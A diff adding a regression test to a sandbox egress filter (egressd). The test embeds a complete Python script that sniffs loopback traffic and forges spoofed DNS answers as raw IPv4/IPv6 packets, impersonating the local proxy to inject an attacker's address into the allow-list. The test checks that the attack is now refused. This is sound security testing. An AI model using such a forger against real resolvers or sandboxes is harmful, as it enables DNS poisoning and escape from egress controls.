@@ -1415,6 +1415,124 @@ def test_a_racing_copy_of_egressds_query_is_relayed_only_to_the_target(lab, egre
     assert d.status()["dns"]["relayed"] >= 2  # the copy and Docker's forward, both to the target
 
 
+# Docker's forwarded copy of egressd's query is redirected to the proxy at 127.0.0.1:53 or [::1]:53;
+# the proxy's answer goes back to Docker's socket over `lo`, in the reply direction of that flow.
+# This process sniffs `lo` for the copy (its ID, 0x20 case and Docker's port) and writes the
+# "proxy's answer" itself, from the proxy's address and port, with the attacker's address: from
+# a raw socket (chain output sees it) or as a frame written to `lo` with AF_PACKET (it never
+# does). Conntrack would take it as the reply of the redirected flow and undo the redirect, and
+# Docker hand it to egressd as its upstream's answer. argv: name, forged address, raw | packet.
+PROXY_FORGER = textwrap.dedent(r"""
+    import json, socket, struct, sys, time
+    name, forged, how = sys.argv[1], sys.argv[2], sys.argv[3]
+    wire = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
+    def csum(b):
+        if len(b) % 2:
+            b += b"\0"
+        s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+        while s >> 16:
+            s = (s & 0xffff) + (s >> 16)
+        return ~s & 0xffff
+    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    sniff.bind(("lo", 0))
+    sniff.settimeout(0.05)
+    if how == "raw4":
+        out_sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    elif how == "raw6":
+        out_sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP)
+        out_sock.bind(("::1", 0))
+    else:
+        out_sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+        out_sock.bind(("lo", 0))
+    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    c.settimeout(4)
+    c.bind(("0.0.0.0", 0))
+    myport = c.getsockname()[1]
+    print("READY", flush=True)
+    c.sendto(struct.pack("!HHHHHH", 0x1111, 0x0100, 1, 0, 0, 0) + wire + struct.pack("!HH", 1, 1), ("192.0.2.1", 53))
+    out = {"forged": None}
+    deadline = time.monotonic() + 3
+    while time.monotonic() < deadline and out["forged"] is None:
+        try:
+            f = sniff.recv(65535)
+        except socket.timeout:
+            continue
+        p = f[14:]
+        if f[12:14] == b"\x08\x00" and len(p) >= 28 and p[0] == 0x45 and p[9] == 17 and p[16:20] == socket.inet_aton("127.0.0.1"):
+            v6, hl, src = False, 20, p[12:16]
+        elif f[12:14] == b"\x86\xdd" and len(p) >= 48 and p[6] == 17 and p[24:40] == socket.inet_pton(socket.AF_INET6, "::1"):
+            v6, hl, src = True, 40, p[8:24]
+        else:
+            continue
+        sport, dport = struct.unpack_from("!HH", p, hl)
+        q = p[hl + 8:]
+        if dport != 53 or sport == myport or len(q) < 17 or q[2] & 0x80 or wire not in q.lower():
+            continue
+        qend = 12 + q[12:].lower().index(wire) + len(wire) + 4
+        if q[qend - 4:qend - 2] != b"\x00\x01":
+            continue  # not the A query
+        ans = (q[:2] + struct.pack("!HHHHH", 0x8180 | (q[2] & 1) << 8, 1, 1, 0, 0) + q[12:qend]
+               + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 3600, 4) + socket.inet_aton(forged))
+        ulen = 8 + len(ans)
+        if v6:
+            lo6 = socket.inet_pton(socket.AF_INET6, "::1")
+            pseudo = lo6 + src + struct.pack("!IxxxB", ulen, 17)
+            udp = struct.pack("!HHHH", 53, sport, ulen, 0)
+            udp = udp[:6] + struct.pack("!H", csum(pseudo + udp + ans) or 0xffff)
+            frame = bytes(12) + b"\x86\xdd" + struct.pack("!IHBB", 0x60000000, ulen, 17, 64) + lo6 + src + udp + ans
+        else:
+            udp = struct.pack("!HHHH", 53, sport, ulen, 0)
+            hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, 0, 0x4000, 64, 17, 0,
+                              socket.inet_aton("127.0.0.1"), src)
+            hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
+            frame = bytes(12) + b"\x08\x00" + hdr + udp + ans
+        try:
+            if how == "raw4":
+                out_sock.sendto(frame[14:], (socket.inet_ntoa(src), 0))
+            elif how == "raw6":
+                out_sock.sendto(udp + ans, (socket.inet_ntop(socket.AF_INET6, src), 0))
+            else:
+                out_sock.send(frame)
+            out["forged"] = "sent"
+        except OSError as e:
+            out["forged"] = f"refused: {e.strerror}"
+    try:
+        a = c.recv(65535)
+        out["rcode"] = a[3] & 0xF
+        out["answer_has_forged"] = socket.inet_aton(forged) in a
+    except OSError as e:
+        out["answer"] = str(e)
+    print(json.dumps(out))
+""")
+
+
+@pytest.mark.parametrize("how", ["raw4", "packet6"])
+def test_a_sandbox_cannot_write_the_proxys_answer_to_dockers_forwarded_copy(lab, egressd, how):
+    """Found by an attack review: with Docker's default capabilities a sandbox process made egressd
+    learn its own address for an allowed name, any time, 5 times out of 5. Chain output now drops
+    what leaves from the proxy's address and port without the proxy sockets' secret priority, and
+    chain lo_replies drops such a frame written to `lo` unless chain output signed it. Docker's
+    copy travels over IPv6 when its upstream is an IPv6 address. (An IPv4 frame from 127.0.0.1
+    written to `lo` is a martian on receipt: no packet variant for IPv4.)"""
+    serve(lab)
+    lab.add_servers([FORGED_V4], tcp=(22,))
+    DockerResolver(lab, forward=DNS_V6 if how.endswith("6") else DNS_V4)
+    d = docker_egressd(lab, egressd)
+    assert events(d, "forwarder_pinned"), d.log()
+    name = f"{tok()}.wild.example.org"
+    res = attacker_result(attacker(lab, PROXY_FORGER, name, FORGED_V4, how, caps=DOCKER_CAPS))
+    print(f"\n{how}: {res}")
+    assert res["forged"] is not None, f"the forger saw no copy of egressd's query on lo: {res}"
+    if how.startswith("raw"):
+        assert res["forged"].startswith("refused"), res  # chain output's drop: EPERM
+    assert res.get("rcode") == 0 and res.get("answer_has_forged") is False, res
+    assert FORGED_V4 not in lab.learned_set(4)
+    assert lab.tcp_connect(FORGED_V4, 22) != "ok"
+    # The proxy's own answers still reach Docker's resolver and the sandbox.
+    r = lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
+    assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r
+
+
 # --- a port per query, and the sandbox's own queries ---------------------------------------------
 
 
